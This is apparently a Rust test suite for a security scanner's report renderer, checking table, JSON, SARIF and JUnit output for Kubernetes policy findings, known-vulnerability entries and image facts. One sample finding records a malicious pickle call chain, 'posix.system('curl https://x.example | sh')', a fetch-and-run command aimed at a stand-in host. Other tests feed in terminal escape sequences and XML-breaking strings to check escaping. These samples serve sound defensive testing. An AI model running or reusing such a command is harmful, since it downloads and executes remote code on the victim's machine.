//! Every format rendered from one hand-built report that covers what scanners produce:
//! several files, findings with and without positions, a Pod Security Standards finding, a
//! finding inside an archive member, input errors, a notice and suppressed findings.

use std::path::PathBuf;
use std::sync::Arc;

use palisade_policy::{
    CallSite, Finding, InputError, Location, ObjectRef, Severity, Vulnerability, VulnerablePackage,
};
use palisade_report::{
    EXIT_CLEAN, EXIT_ERROR, EXIT_FINDINGS, Format, JSON_SCHEMA, RenderOptions, ScanReport,
    fingerprint, render,
};
use serde_json::Value;

palisade_policy::declare_rule! {
    /// ## What it does
    /// Checks that every container sets `securityContext.runAsNonRoot: true`, at the pod or
    /// the container level.
    ///
    /// ## Why is this bad?
    /// A process running as root in a container is one kernel bug away from root on the node.
    ///
    /// ## Example
    /// ```yaml
    /// securityContext: {runAsNonRoot: false}
    /// ```
    ///
    /// ## Fix
    /// ```yaml
    /// securityContext: {runAsNonRoot: true}
    /// ```
    pub static RUN_AS_NON_ROOT = {
        code: "PAL101",
        name: "run-as-non-root",
        family: "pss-restricted",
        severity: High,
        summary: "Containers must run as a non-root user",
        pss_check: "runAsNonRoot",
        references: [
            Pss "Running as Non-root" "https://kubernetes.io/docs/concepts/security/pod-security-standards/#restricted",
            Cis "5.2.6" "https://www.cisecurity.org/benchmark/kubernetes",
        ],
    };
}

palisade_policy::declare_rule! {
    /// ## What it does
    /// Checks that containers are not privileged.
    pub static PRIVILEGED = {
        code: "PAL102",
        name: "privileged-containers",
        family: "pss-baseline",
        severity: Critical,
        summary: "Containers must not run privileged",
        pss_check: "privileged",
        references: [
            Pss "Privileged Containers" "https://kubernetes.io/docs/concepts/security/pod-security-standards/#baseline",
        ],
    };
}

palisade_policy::declare_rule! {
    /// ## What it does
    /// Checks that images are pinned to a tag other than `latest`, or to a digest.
    pub static LATEST_TAG = {
        code: "PAL201",
        name: "image-tag-latest",
        family: "images",
        severity: Medium,
        summary: "Images must not use the latest tag",
        references: [
            Nist "SP 800-190 4.1.1" "https://csrc.nist.gov/pubs/sp/800/190/final",
        ],
    };
}

palisade_policy::declare_rule! {
    /// ## What it does
    /// Finds pickle opcodes that import and call arbitrary Python objects.
    pub static PICKLE_CODE = {
        code: "PAL301",
        name: "pickle-code-execution",
        family: "models",
        severity: Critical,
        summary: "Model files must not execute code when loaded",
        references: [
            Atlas "AML.T0011.000" "https://atlas.mitre.org/techniques/AML.T0011.000",
        ],
    };
}

palisade_policy::declare_rule! {
    /// Probes are recommended.
    pub static LIVENESS = {
        code: "PAL401",
        name: "liveness-probe",
        family: "reliability",
        severity: Info,
        summary: "Containers should declare a liveness probe",
        references: [],
    };
}

palisade_policy::declare_rule! {
    /// ## What it does
    /// Reports an installed package version that an OSV advisory lists as affected.
    pub static KNOWN_VULNERABILITY = {
        code: "PAL700",
        name: "known-vulnerability",
        family: "vuln",
        severity: High,
        summary: "Installed package version is affected by a known vulnerability",
        references: [
            Doc "OSV schema" "https://ossf.github.io/osv-schema/",
        ],
    };
}

/// A vulnerability of `mlflow 2.9.1` pinned at line 3 of `requirements.txt`, as
/// `palisade-vuln` reports it.
fn vulnerability(
    id: &str,
    aliases: &[&str],
    fixed: Option<&str>,
    cvss: Option<(f64, &str)>,
    severity: Severity,
) -> Finding {
    let message = format!(
        "mlflow 2.9.1: {id} [{severity}]; {}",
        fixed.map_or("no fixed version".to_owned(), |f| format!("fixed in {f}"))
    );
    let mut f = Finding::new(
        &KNOWN_VULNERABILITY,
        message,
        Location {
            file: Arc::from("requirements.txt"),
            line: 3,
            column: 1,
            ..Location::default()
        },
    );
    f.severity = severity;
    f.vulnerability = Some(Box::new(Vulnerability {
        id: id.to_owned(),
        aliases: aliases.iter().map(|a| (*a).to_owned()).collect(),
        package: VulnerablePackage {
            ecosystem: "PyPI".to_owned(),
            name: "mlflow".to_owned(),
            version: "2.9.1".to_owned(),
            source_name: None,
            source_version: None,
            purl: Some("pkg:pypi/mlflow@2.9.1".to_owned()),
        },
        fixed_version: fixed.map(str::to_owned),
        status: Vulnerability::status_for(fixed),
        severity_source: if cvss.is_some() { "CVSS_V3" } else { "unknown" }.to_owned(),
        cvss_score: cvss.map(|c| c.0),
        cvss_vector: cvss.map(|c| c.1.to_owned()),
        summary: format!("mlflow | advisory {id}"),
        url: format!("https://osv.dev/vulnerability/{id}"),
    }));
    f
}

fn location(file: &str, line: u32, column: u32, pointer: &str) -> Location {
    Location {
        file: Arc::from(file),
        line,
        column,
        document: Some(0),
        pointer: pointer.to_owned(),
        member: None,
        offset: None,
    }
}

fn object(kind: &str, namespace: Option<&str>, name: &str) -> Option<std::sync::Arc<ObjectRef>> {
    Some(std::sync::Arc::new(ObjectRef {
        api_version: "apps/v1".to_owned(),
        kind: kind.to_owned(),
        namespace: namespace.map(str::to_owned),
        name: name.to_owned(),
    }))
}

fn sample_findings() -> Vec<Finding> {
    let mut pss = Finding::new(
        &RUN_AS_NON_ROOT,
        "container \"serving\" must set securityContext.runAsNonRoot=true (pod and container \
         leave it unset or false)",
        location(
            "deploy/tf-serving.yaml",
            24,
            13,
            "/spec/template/spec/containers/0/securityContext/runAsNonRoot",
        ),
    );
    pss.object = object("Deployment", Some("ml"), "tf-serving");
    pss.container = Some("serving".to_owned());
    pss.snippet = Some("            runAsNonRoot: false".to_owned());

    let mut latest = Finding::new(
        &LATEST_TAG,
        "image \"tensorflow/serving:latest\" uses the mutable <latest> tag & no digest",
        location(
            "deploy/tf-serving.yaml",
            19,
            18,
            "/spec/template/spec/containers/0/image",
        ),
    );
    latest.object = pss.object.clone();
    latest.container = Some("serving".to_owned());
    latest.snippet = Some("        - image: tensorflow/serving:latest".to_owned());

    // Same rule, same object, another container: one JUnit test case with two findings.
    let mut latest_sidecar = Finding::new(
        &LATEST_TAG,
        "image \"envoyproxy/envoy:latest\" uses the mutable <latest> tag & no digest",
        location(
            "deploy/tf-serving.yaml",
            31,
            18,
            "/spec/template/spec/containers/1/image",
        ),
    );
    latest_sidecar.object = pss.object.clone();
    latest_sidecar.container = Some("proxy".to_owned());
    latest_sidecar.snippet = Some("        - image: envoyproxy/envoy:latest".to_owned());

    // No position (JSON input from a tool that lost it): pointer only; severity overridden.
    let mut privileged = Finding::new(
        &PRIVILEGED,
        "container \"exporter\" sets securityContext.privileged=true",
        location(
            "deploy/node-exporter.json",
            0,
            0,
            "/spec/template/spec/containers/0/securityContext/privileged",
        ),
    );
    privileged.severity = Severity::High;
    privileged.object = object("DaemonSet", None, "node-exporter");
    privileged.container = Some("exporter".to_owned());

    // Inside an archive member, binary input: offset, no line.
    let mut pickle = Finding::new(
        &PICKLE_CODE,
        "GLOBAL posix.system is called by REDUCE",
        Location {
            file: Arc::from("models/classifier.tar.gz"),
            line: 0,
            column: 0,
            document: None,
            pointer: String::new(),
            member: Some("classifier/data.pkl".to_owned()),
            offset: Some(1042),
        },
    );
    pickle.snippet = None;
    pickle.call = Some(Box::new(CallSite {
        callable: Some("posix.system".to_owned()),
        call_chain: Some("posix.system('curl https://x.example | sh')".to_owned()),
    }));

    let mut info = Finding::new(
        &LIVENESS,
        "container \"redis\" declares no livenessProbe",
        location(
            "deploy/cache.yaml",
            12,
            11,
            "/spec/template/spec/containers/0",
        ),
    );
    info.object = object("StatefulSet", Some("ml"), "feature-cache");
    info.container = Some("redis".to_owned());
    info.snippet = Some("        - name: redis".to_owned());

    // Two vulnerabilities of one package at one place: one scored from its CVSS vector and
    // fixed, one without a score or a fix.
    let cve = vulnerability(
        "CVE-2023-6909",
        &["GHSA-j62r-wxqq-f3gf", "PYSEC-2023-252"],
        Some("2.9.2"),
        Some((9.1, "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N")),
        Severity::Critical,
    );
    let unfixed = vulnerability("GHSA-xxxx-yyyy-zzzz", &[], None, None, Severity::Medium);

    vec![
        pickle,
        info,
        pss,
        unfixed,
        latest_sidecar,
        privileged,
        cve,
        latest,
    ]
}

fn sample_report() -> ScanReport {
    ScanReport {
        findings: sample_findings(),
        errors: vec![
            InputError {
                file: Arc::from("deploy/cache.yaml"),
                line: 40,
                column: 21,
                message: "document 2: spec.template.spec.securityContext.runAsNonRoot: \
                          expected a boolean, found the string \"yes\""
                    .to_owned(),
            },
            InputError {
                file: Arc::from("deploy/broken.yaml"),
                line: 0,
                column: 0,
                message: "cannot read file: permission denied".to_owned(),
            },
        ],
        notices: vec![
            "exception 1 (rules: host-path-volumes; namespaces: monitoring; reason: \
             \"node exporter\") expired on 2026-01-01 and no longer applies"
                .to_owned(),
        ],
        files_scanned: 5,
        resources_scanned: 9,
        suppressed: 2,
        fail_on: Severity::High,
        rules: vec![
            &LIVENESS,
            &RUN_AS_NON_ROOT,
            &PRIVILEGED,
            &LATEST_TAG,
            &PICKLE_CODE,
            &KNOWN_VULNERABILITY,
        ],
        images: vec![sample_image()],
    }
}

/// An image as `palisade_image::facts` writes it (this crate only passes it through).
fn sample_image() -> Value {
    let digest = |c: char| format!("sha256:{}", c.to_string().repeat(64));
    serde_json::json!({
        "reference": "oci:layout:v1",
        "manifestDigest": digest('a'),
        "referenceDigest": digest('a'),
        "configDigest": digest('c'),
        "platform": {"os": "linux", "architecture": "amd64", "variant": null},
        "os": {"id": "debian", "versionId": "12", "prettyName": null, "ecosystem": "Debian:12"},
        "layers": [{"digest": digest('d'), "diffId": null,
            "mediaType": "application/vnd.oci.image.layer.v1.tar+gzip", "size": 300,
            "uncompressed": 10240, "entries": 3, "verified": true, "createdBy": null}],
        "files": 5,
        "bytes": 10240,
        "packages": {"total": 1, "byType": {"deb": 1}, "byEcosystem": {"Debian:12": 1}},
        "surface": {"user": "", "runsAsRoot": true,
            "shells": [{"name": "sh", "path": "bin/sh", "layer": 0}],
            "packageManagers": [], "compilers": [], "debuggers": [], "networkTools": [],
            "setuid": [{"path": "usr/bin/su", "mode": 2541, "uid": 0, "gid": 0, "layer": 0}],
            "worldWritable": [], "exposedPorts": ["22/tcp"], "listenHints": [],
            "layers": [{"digest": digest('d'), "size": 300, "uncompressed": 10240,
                "entries": 3, "createdBy": null}],
            "plan": ["set USER to a non-root user"]}
    })
}

fn options() -> RenderOptions {
    RenderOptions {
        color: false,
        tool_version: "0.1.0".to_owned(),
    }
}

fn shared_schema(name: &str) -> Option<PathBuf> {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared/data/schemas")
        .join(name);
    if path.exists() {
        Some(path)
    } else {
        eprintln!("skipping: {} not found", path.display());
        None
    }
}

fn validate(schema: &Value, instance: &Value) -> Vec<String> {
    let validator = jsonschema::options()
        .should_validate_formats(true)
        .build(schema)
        .expect("schema compiles offline");
    validator
        .iter_errors(instance)
        .map(|e| format!("{} at {}", e, e.instance_path()))
        .collect()
}

#[test]
fn table_snapshot() {
    insta::assert_snapshot!(render(&sample_report(), Format::Table, &options()));
}

#[test]
fn json_snapshot() {
    insta::assert_snapshot!(render(&sample_report(), Format::Json, &options()));
}

#[test]
fn sarif_snapshot() {
    insta::assert_snapshot!(render(&sample_report(), Format::Sarif, &options()));
}

#[test]
fn junit_snapshot() {
    insta::assert_snapshot!(render(&sample_report(), Format::Junit, &options()));
}

#[test]
fn empty_report_in_every_format() {
    let report = ScanReport {
        files_scanned: 3,
        resources_scanned: 4,
        rules: vec![&RUN_AS_NON_ROOT],
        ..ScanReport::new(Severity::High)
    };
    let all: Vec<String> = Format::ALL
        .into_iter()
        .map(|format| format!("--- {format}\n{}", render(&report, format, &options())))
        .collect();
    insta::assert_snapshot!(all.join(""));
}

#[test]
fn json_matches_its_schema() {
    let schema: Value = serde_json::from_str(JSON_SCHEMA).expect("schema is JSON");
    for report in [sample_report(), ScanReport::default()] {
        let output: Value =
            serde_json::from_str(&render(&report, Format::Json, &options())).unwrap();
        let errors = validate(&schema, &output);
        assert!(errors.is_empty(), "{errors:#?}");
    }
    // The schema does reject what it should.
    let mut bad: Value =
        serde_json::from_str(&render(&sample_report(), Format::Json, &options())).unwrap();
    bad["findings"][0]["severity"] = "severe".into();
    bad["findings"][0]
        .as_object_mut()
        .unwrap()
        .remove("pointer");
    assert_eq!(validate(&schema, &bad).len(), 2);
}

#[test]
fn sarif_matches_the_oasis_schema() {
    let Some(path) = shared_schema("sarif-schema-2.1.0.json") else {
        return;
    };
    let schema: Value = serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    for report in [sample_report(), ScanReport::default()] {
        let output: Value =
            serde_json::from_str(&render(&report, Format::Sarif, &options())).unwrap();
        let errors = validate(&schema, &output);
        assert!(errors.is_empty(), "{errors:#?}");
    }
    let mut bad: Value =
        serde_json::from_str(&render(&sample_report(), Format::Sarif, &options())).unwrap();
    bad["runs"][0]["results"][0]["level"] = "fatal".into();
    assert_eq!(validate(&schema, &bad).len(), 1);
    // Formats are checked too (`$schema` must be a URI).
    bad["$schema"] = "not a uri".into();
    assert_eq!(validate(&schema, &bad).len(), 2);
}

/// What GitHub code scanning needs beyond the schema.
#[test]
fn sarif_is_what_github_expects() {
    let report = sample_report();
    let sarif: Value = serde_json::from_str(&render(&report, Format::Sarif, &options())).unwrap();
    let run = &sarif["runs"][0];
    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
    let ids: Vec<&str> = rules.iter().map(|r| r["id"].as_str().unwrap()).collect();
    assert_eq!(
        ids,
        [
            "PAL101",
            "PAL102",
            "PAL201",
            "PAL301",
            "PAL401",
            "PAL700",
            "PAL700/CVE-2023-6909",
            "PAL700/GHSA-xxxx-yyyy-zzzz"
        ]
    );
    for result in run["results"].as_array().unwrap() {
        let index = usize::try_from(result["ruleIndex"].as_u64().unwrap()).unwrap();
        assert_eq!(rules[index]["id"], result["ruleId"]);
        let fingerprint = result["partialFingerprints"]["palisade/v1"]
            .as_str()
            .unwrap();
        assert_eq!(fingerprint.len(), 16);
        let artifact = &result["locations"][0]["physicalLocation"]["artifactLocation"];
        assert_eq!(artifact["uriBaseId"], "%SRCROOT%");
        assert!(!artifact["uri"].as_str().unwrap().starts_with('/'));
    }
    for rule in rules {
        assert_eq!(rule["properties"]["tags"][0], "security");
        assert!(!rule["help"]["markdown"].as_str().unwrap().is_empty());
        if let Some(score) = rule["properties"]["security-severity"].as_str() {
            let score: f64 = score.parse().unwrap();
            assert!((0.1..=10.0).contains(&score));
        }
    }
    // Overridden to high by the policy: GitHub sees the effective severity.
    assert_eq!(rules[1]["properties"]["security-severity"], "8.0");
    assert_eq!(rules[1]["defaultConfiguration"]["level"], "error");
    // The rule's documentation, not only its summary.
    assert!(
        rules[0]["help"]["markdown"]
            .as_str()
            .unwrap()
            .contains("## Why is this bad?")
    );
    // Each vulnerability is its own alert type: CVSS base score as security-severity (the
    // one without a score falls back to its severity), a help table, the advisory link.
    let cve = &rules[6];
    assert_eq!(cve["properties"]["security-severity"], "9.1");
    assert_eq!(cve["defaultConfiguration"]["level"], "error");
    assert_eq!(
        cve["helpUri"],
        "https://osv.dev/vulnerability/CVE-2023-6909"
    );
    let help = cve["help"]["markdown"].as_str().unwrap();
    assert!(
        help.contains("| mlflow | PyPI | 2.9.1 | 2.9.2 | critical |"),
        "{help}"
    );
    assert!(
        help.contains("advisory CVE-2023-6909"),
        "pipes escaped: {help}"
    );
    assert_eq!(rules[7]["properties"]["security-severity"], "5.5");
    let vuln_results: Vec<&Value> = run["results"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["ruleId"].as_str().unwrap().starts_with("PAL700/"))
        .collect();
    assert_eq!(vuln_results.len(), 2);
    assert_ne!(
        vuln_results[0]["partialFingerprints"], vuln_results[1]["partialFingerprints"],
        "two vulnerabilities at one place are two alerts"
    );
    let fields = &vuln_results[0]["properties"]["vulnerability"];
    assert_eq!(fields["package"]["name"], "mlflow");
    let invocation = &run["invocations"][0];
    assert_eq!(invocation["executionSuccessful"], false);
    assert_eq!(invocation["exitCode"], 2);
    assert_eq!(
        invocation["toolExecutionNotifications"]
            .as_array()
            .unwrap()
            .len(),
        2
    );
}

#[test]
fn junit_is_well_formed_xml() {
    let xml = render(&sample_report(), Format::Junit, &options());
    let doc = roxmltree::Document::parse(&xml).expect("well-formed XML");
    let root = doc.root_element();
    assert_eq!(root.tag_name().name(), "testsuites");
    let suites: Vec<_> = root
        .children()
        .filter(roxmltree::Node::is_element)
        .collect();
    let names: Vec<&str> = suites
        .iter()
        .map(|s| s.attribute("name").unwrap())
        .collect();
    assert_eq!(
        names,
        [
            "deploy/broken.yaml",
            "deploy/cache.yaml",
            "deploy/node-exporter.json",
            "deploy/tf-serving.yaml",
            "models/classifier.tar.gz",
            "oci:layout:v1",
            "requirements.txt",
            "palisade",
        ]
    );
    let failures = doc
        .descendants()
        .filter(|n| n.has_tag_name("failure"))
        .count();
    let errors = doc
        .descendants()
        .filter(|n| n.has_tag_name("error"))
        .count();
    assert_eq!(
        root.attribute("failures"),
        Some(failures.to_string().as_str())
    );
    assert_eq!(root.attribute("errors"), Some(errors.to_string().as_str()));
    assert_eq!((failures, errors), (7, 2));
    // Escaped text comes back intact.
    let latest = doc
        .descendants()
        .find(|n| {
            n.has_tag_name("failure")
                && n.attribute("message")
                    .is_some_and(|m| m.starts_with("2 findings"))
        })
        .expect("grouped test case");
    assert!(latest.text().unwrap().contains("<latest> tag & no digest"));
}

/// The `<property>` (name, value) pairs of the test suite named `suite`.
fn junit_properties(xml: &str, suite: &str) -> Vec<(String, String)> {
    let doc = roxmltree::Document::parse(xml).expect("well-formed XML");
    let node = doc
        .descendants()
        .find(|n| n.has_tag_name("testsuite") && n.attribute("name") == Some(suite))
        .unwrap_or_else(|| panic!("no suite {suite}"));
    // JUnit's schema wants the properties first.
    let first = node.children().find(roxmltree::Node::is_element).unwrap();
    assert!(first.has_tag_name("properties"), "{suite}");
    first
        .children()
        .filter(|n| n.has_tag_name("property"))
        .map(|n| {
            (
                n.attribute("name").unwrap().to_owned(),
                n.attribute("value").unwrap().to_owned(),
            )
        })
        .collect()
}

#[test]
fn junit_carries_image_facts_as_suite_properties() {
    let mut report = sample_report();
    // An image with findings: its facts go on the suite that holds them.
    let mut scanned = sample_image();
    scanned["reference"] = "deploy/tf-serving.yaml".into();
    scanned["platform"]["variant"] = "v8".into();
    scanned["os"]["prettyName"] = "Debian GNU/Linux 12 (bookworm) <&>".into();
    report.images.push(scanned);
    let xml = render(&report, Format::Junit, &options());
    let digest = |c: char| format!("sha256:{}", c.to_string().repeat(64));
    let want = |reference: &str, platform: &str, os: &str| -> Vec<(String, String)> {
        [
            ("image.reference", reference.to_owned()),
            ("image.manifestDigest", digest('a')),
            ("image.referenceDigest", digest('a')),
            ("image.configDigest", digest('c')),
            ("image.platform", platform.to_owned()),
            ("image.os", os.to_owned()),
            ("image.osEcosystem", "Debian:12".to_owned()),
            ("image.layers", "1".to_owned()),
            ("image.files", "5".to_owned()),
            ("image.bytes", "10240".to_owned()),
            ("image.packages", "1".to_owned()),
            ("image.packages.deb", "1".to_owned()),
            ("image.runsAsRoot", "true".to_owned()),
        ]
        .into_iter()
        .map(|(k, v)| (k.to_owned(), v))
        .collect()
    };
    // An image without findings or errors still has its suite.
    assert_eq!(
        junit_properties(&xml, "oci:layout:v1"),
        want("oci:layout:v1", "linux/amd64", "debian 12")
    );
    assert_eq!(
        junit_properties(&xml, "deploy/tf-serving.yaml"),
        want(
            "deploy/tf-serving.yaml",
            "linux/amd64/v8",
            "Debian GNU/Linux 12 (bookworm) <&>"
        )
    );
    let doc = roxmltree::Document::parse(&xml).unwrap();
    let empty = doc
        .descendants()
        .find(|n| n.attribute("name") == Some("oci:layout:v1"))
        .unwrap();
    assert_eq!(empty.attribute("tests"), Some("0"));
    // Reports without images have no image properties.
    let plain = render(
        &ScanReport {
            images: Vec::new(),
            ..sample_report()
        },
        Format::Junit,
        &options(),
    );
    assert!(!plain.contains("image."), "{plain}");
}

#[test]
fn junit_escapes_hostile_text() {
    let mut report = sample_report();
    report.findings[0].message = "a]]><x y=\"'\"/>\u{0}\u{1b}[31m\n&amp;".to_owned();
    report.errors[0].file = Arc::from("we\"ird<&>.yaml");
    let xml = render(&report, Format::Junit, &options());
    let doc = roxmltree::Document::parse(&xml).expect("well-formed XML");
    let message = doc
        .descendants()
        .find_map(|n| n.attribute("message").filter(|m| m.starts_with("a]]>")))
        .unwrap();
    assert_eq!(message, "a]]><x y=\"'\"/>\u{fffd}\u{fffd}[31m\n&amp;");
    assert!(
        doc.descendants()
            .any(|n| n.attribute("name") == Some("we\"ird<&>.yaml"))
    );
}

#[test]
fn output_does_not_depend_on_input_order() {
    let report = sample_report();
    let mut reversed = sample_report();
    reversed.findings.reverse();
    reversed.errors.reverse();
    reversed.rules.reverse();
    for format in Format::ALL {
        assert_eq!(
            render(&report, format, &options()),
            render(&reversed, format, &options()),
            "{format}"
        );
    }
}

fn strip_ansi(text: &str) -> String {
    let mut out = String::new();
    let mut chars = text.chars();
    while let Some(c) = chars.next() {
        if c == '\x1b' {
            for c in chars.by_ref() {
                if c == 'm' {
                    break;
                }
            }
        } else {
            out.push(c);
        }
    }
    out
}

#[test]
fn colour_changes_nothing_but_escapes() {
    let report = sample_report();
    let plain = render(&report, Format::Table, &options());
    let coloured = render(
        &report,
        Format::Table,
        &RenderOptions {
            color: true,
            ..options()
        },
    );
    assert!(coloured.contains("\x1b[1;31mHIGH\x1b[0m"));
    assert!(!plain.contains('\x1b'));
    assert_eq!(strip_ansi(&coloured), plain);
}

#[test]
fn table_fits_in_80_columns_and_defuses_escapes() {
    let mut report = sample_report();
    report.findings[2].snippet = Some(format!(
        "            runAsNonRoot: false # \x1b]0;pwned\x07 {}",
        "x".repeat(120)
    ));
    let table = render(&report, Format::Table, &options());
    assert!(!table.contains('\x1b') && !table.contains('\x07'));
    let summary = table.lines().last().unwrap();
    assert!(
        summary.starts_with("8 findings (2 critical, 2 high, 3 medium, 1 info) in 5 files"),
        "{summary}"
    );
    for line in table.lines() {
        // Only the header lines (location + rule, with long paths) and the one summary line
        // may run longer.
        if !line.starts_with("deploy/")
            && !line.starts_with("models/")
            && !line.starts_with("requirements.txt")
            && line != summary
        {
            assert!(line.chars().count() <= 80, "{line:?}");
        }
    }
}

#[test]
fn exit_codes() {
    let finding = |severity| {
        let mut f = Finding::new(&LATEST_TAG, "m", location("a.yaml", 1, 1, ""));
        f.severity = severity;
        f
    };
    let error = InputError {
        file: Arc::from("a.yaml"),
        line: 1,
        column: 1,
        message: "bad".to_owned(),
    };

    // Clean.
    let mut report = ScanReport::new(Severity::High);
    assert_eq!(report.exit_code(), EXIT_CLEAN);
    // Findings below failOn do not fail; notices and suppressions never do.
    report.findings.push(finding(Severity::Medium));
    report.notices.push("exception expired".to_owned());
    report.suppressed = 10;
    assert_eq!(report.exit_code(), 0);
    assert_eq!(report.failing(), 0);
    // At failOn fails.
    report.findings.push(finding(Severity::High));
    assert_eq!(report.exit_code(), EXIT_FINDINGS);
    assert_eq!(report.failing(), 1);
    // Above failOn fails.
    report.fail_on = Severity::Medium;
    assert_eq!((report.exit_code(), report.failing()), (1, 2));
    report.fail_on = Severity::Critical;
    assert_eq!(report.exit_code(), 0);
    report.fail_on = Severity::Info;
    assert_eq!(report.exit_code(), 1);
    // An input error wins over findings, and fails a scan with none.
    report.errors.push(error.clone());
    assert_eq!(report.exit_code(), EXIT_ERROR);
    let only_error = ScanReport {
        errors: vec![error],
        ..ScanReport::default()
    };
    assert_eq!(only_error.exit_code(), 2);

    // Every format reports the same exit code.
    let json: Value = serde_json::from_str(&render(&report, Format::Json, &options())).unwrap();
    assert_eq!(json["summary"]["exitCode"], 2);
    let sarif: Value = serde_json::from_str(&render(&report, Format::Sarif, &options())).unwrap();
    assert_eq!(sarif["runs"][0]["invocations"][0]["exitCode"], 2);
    assert!(
        render(&report, Format::Junit, &options())
            .contains("<property name=\"exitCode\" value=\"2\"/>")
    );
}

#[test]
fn formats_parse_and_print() {
    for (format, name) in Format::ALL.into_iter().zip(Format::NAMES) {
        assert_eq!(format.to_string(), name);
        assert_eq!(name.parse::<Format>(), Ok(format));
        assert_eq!(name.to_uppercase().parse::<Format>(), Ok(format));
    }
    let err = "xml".parse::<Format>().unwrap_err();
    assert_eq!(
        err,
        "unknown format `xml` (expected one of: table, json, sarif, junit)"
    );
}

#[test]
fn fingerprints_ignore_lines_and_messages() {
    let findings = sample_findings();
    let pss = &findings[2];
    let mut moved = pss.clone();
    moved.location.line += 10;
    moved.location.file = Arc::from("./deploy/tf-serving.yaml");
    moved.message = "reworded".to_owned();
    assert_eq!(fingerprint(pss), fingerprint(&moved));
    let mut other = pss.clone();
    other.location.pointer = "/spec/template/spec/containers/1/securityContext".to_owned();
    assert_ne!(fingerprint(pss), fingerprint(&other));
    let all: std::collections::HashSet<String> = findings.iter().map(fingerprint).collect();
    assert_eq!(all.len(), findings.len());
}

/// A generated multi-document file as big as a Helm chart of a large platform: every format
/// stays linear (no per-finding scans of all findings or test cases).
#[test]
fn large_reports_render() {
    let mut report = ScanReport::new(Severity::High);
    for i in 0..10_000u32 {
        let mut f = Finding::new(
            [&RUN_AS_NON_ROOT, &LATEST_TAG][i as usize % 2],
            format!("finding {i}"),
            location("big.yaml", i + 1, 3, "/spec/template/spec/containers/0"),
        );
        f.object = object("Deployment", Some("ml"), &format!("app-{}", i / 4));
        f.snippet = Some("  image: x".to_owned());
        report.findings.push(f);
    }
    for format in Format::ALL {
        let out = render(&report, format, &options());
        assert!(out.contains("finding 9999"), "{format}");
    }
    let xml = render(&report, Format::Junit, &options());
    assert_eq!(xml.matches("<testcase ").count(), 5_000);
}

#[test]
fn json_and_sarif_agree_on_fingerprints() {
    let report = sample_report();
    let json: Value = serde_json::from_str(&render(&report, Format::Json, &options())).unwrap();
    let sarif: Value = serde_json::from_str(&render(&report, Format::Sarif, &options())).unwrap();
    let from_json: Vec<&Value> = json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| &f["fingerprint"])
        .collect();
    let from_sarif: Vec<&Value> = sarif["runs"][0]["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| &r["partialFingerprints"]["palisade/v1"])
        .collect();
    assert_eq!(from_json, from_sarif);
    assert_eq!(from_json.len(), report.findings.len());
}
